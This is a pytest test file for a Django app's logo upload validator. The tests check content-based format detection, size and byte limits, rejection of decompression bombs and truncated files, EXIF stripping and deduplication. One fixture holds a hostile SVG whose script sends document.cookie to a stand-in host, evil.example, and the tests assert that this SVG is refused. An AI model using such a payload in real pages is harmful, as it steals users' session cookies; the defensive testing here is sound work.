"""Logos: only PNG, JPEG and WebP recognised from their content, bounded, re-encoded without
metadata, stored once per image."""

import io
import random

import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from catalogue.domain.logos import logo_store
from catalogue.models import Logo
from tests.factories.catalogue import bomb_png, image_bytes, upload

pytestmark = pytest.mark.django_db

HOSTILE_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="128" height="128" fill="#000091"/>
</svg>
"""


def _refused(content, name, content_type="image/png"):
    with pytest.raises(ValidationError) as caught:
        logo_store(upload(content, name, content_type))
    assert Logo.objects.count() == 0
    return caught.value


def test_logo_store_refuses_a_hostile_svg_whatever_its_declared_type():
    error = _refused(HOSTILE_SVG, "logo.png", "image/png")
    assert error.code == "type"
    message = error.messages[0]
    assert "« logo.png » est une image SVG" in message
    assert "PNG, JPEG ou WebP" in message


def test_logo_store_refuses_an_svg_without_xml_declaration():
    error = _refused(b"\xef\xbb\xbf  <svg xmlns='http://www.w3.org/2000/svg'/>", "logo.svg")
    assert "une image SVG" in error.messages[0]


def test_logo_store_refuses_a_gif():
    error = _refused(image_bytes("GIF", mode="P", color=1), "logo.gif", "image/gif")
    assert error.code == "type"
    assert "« logo.gif » est une image GIF" in error.messages[0]


def test_logo_store_names_an_unknown_type():
    error = _refused(b"MZ\x90\x00 not an image", "logo.jpg", "image/jpeg")
    assert "d'un type non reconnu" in error.messages[0]


def test_logo_store_accepts_a_png_disguised_as_jpg_as_a_png():
    logo = logo_store(upload(image_bytes("PNG"), "logo.jpg", "image/jpeg"))
    assert logo.content_type == "image/png"
    assert Image.open(io.BytesIO(bytes(logo.content))).format == "PNG"


@pytest.mark.parametrize("fmt", ["JPEG", "WEBP"])
def test_logo_store_accepts_jpeg_and_webp_and_stores_a_png(fmt):
    logo = logo_store(upload(image_bytes(fmt), f"logo.{fmt.lower()}", "image/jpeg"))
    assert logo.content_type == "image/png"
    assert logo.extension == "png"
    assert (logo.width, logo.height) == (128, 128)


def test_logo_store_refuses_an_image_over_4096_pixels_a_side():
    error = _refused(image_bytes("PNG", size=(4097, 64), mode="1", color=0), "large.png")
    assert error.code == "too_big"
    assert "4097 × 64 pixels" in error.messages[0]
    assert "4096 × 4096" in error.messages[0]


def test_logo_store_refuses_an_image_under_64_pixels():
    error = _refused(image_bytes("PNG", size=(63, 200)), "small.png")
    assert error.code == "too_small"
    assert "au moins 64 × 64 pixels" in error.messages[0]


def test_logo_store_refuses_a_decompression_bomb():
    content = bomb_png()
    assert len(content) < 10_000
    error = _refused(content, "bomb.png")
    assert error.code == "bomb"
    assert "bombe de décompression" in error.messages[0]


def test_logo_store_refuses_a_file_over_the_byte_limit(settings):
    settings.CATALOGUE_LOGO_MAX_BYTES = 1000
    noisy = Image.frombytes("RGB", (200, 200), random.Random(0).randbytes(200 * 200 * 3))
    out = io.BytesIO()
    noisy.save(out, "PNG")
    content = out.getvalue()
    assert len(content) > 1000
    error = _refused(content, "heavy.png")
    assert error.code == "too_large"
    assert "la taille maximale est de 1 Ko" in error.messages[0]


def test_logo_store_byte_limit_defaults_to_one_megabyte(settings):
    assert settings.CATALOGUE_LOGO_MAX_BYTES == 1024 * 1024
    error = _refused(b"\x89PNG\r\n\x1a\n" + b"\x00" * (1024 * 1024), "heavy.png")
    assert "la taille maximale est de 1 Mo" in error.messages[0]


def test_logo_store_refuses_an_empty_file():
    assert _refused(b"", "logo.png").code == "empty"


def test_logo_store_refuses_a_truncated_png():
    assert _refused(image_bytes("PNG")[:60], "cut.png").code == "corrupt"


def test_logo_store_refuses_a_truncated_png_after_weasyprint_relaxed_pillow(monkeypatch):
    """Importing WeasyPrint sets Pillow's LOAD_TRUNCATED_IMAGES for the whole process."""
    from PIL import ImageFile

    noisy = io.BytesIO()  # incompressible: cutting its end cuts pixel data, not only IEND
    Image.effect_noise((300, 200), 50).convert("RGB").save(noisy, "PNG")
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    assert _refused(noisy.getvalue()[:-2000], "cut.png").code == "corrupt"
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True  # the process's setting is left as it was


def test_logo_store_strips_exif_and_reencodes():
    exif = Image.Exif()
    exif[0x010F] = "Appareil secret"  # Make
    exif[0x0131] = "Logiciel de test"  # Software
    original = image_bytes("JPEG", size=(300, 200), exif=exif.tobytes())
    assert b"Appareil secret" in original

    logo = logo_store(upload(original, "photo.jpg", "image/jpeg"))

    stored = bytes(logo.content)
    assert stored != original
    assert b"Appareil secret" not in stored
    reopened = Image.open(io.BytesIO(stored))
    reopened.load()
    assert reopened.format == "PNG"
    assert not reopened.getexif()
    assert "exif" not in reopened.info
    assert (reopened.width, reopened.height) == (logo.width, logo.height) == (300, 200)


def test_logo_store_turns_the_image_upright_from_its_exif_orientation():
    exif = Image.Exif()
    exif[0x0112] = 6  # rotated 90° clockwise: the picture is stored lying on its side
    logo = logo_store(upload(image_bytes("JPEG", size=(200, 100), exif=exif.tobytes())))
    assert (logo.width, logo.height) == (100, 200)


def test_logo_store_shrinks_to_fit_512_and_keeps_transparency():
    content = image_bytes("PNG", size=(2000, 1000), mode="RGBA", color=(0, 0, 145, 0))
    logo = logo_store(upload(content))
    assert (logo.width, logo.height) == (512, 256)
    assert Image.open(io.BytesIO(bytes(logo.content))).mode == "RGBA"


def test_logo_store_keeps_one_logo_for_the_same_image_twice():
    content = image_bytes("PNG")
    first = logo_store(upload(content, "a.png"))
    second = logo_store(upload(content, "b.png"))
    assert first.pk == second.pk
    assert Logo.objects.count() == 1
    assert len(first.sha256) == 64
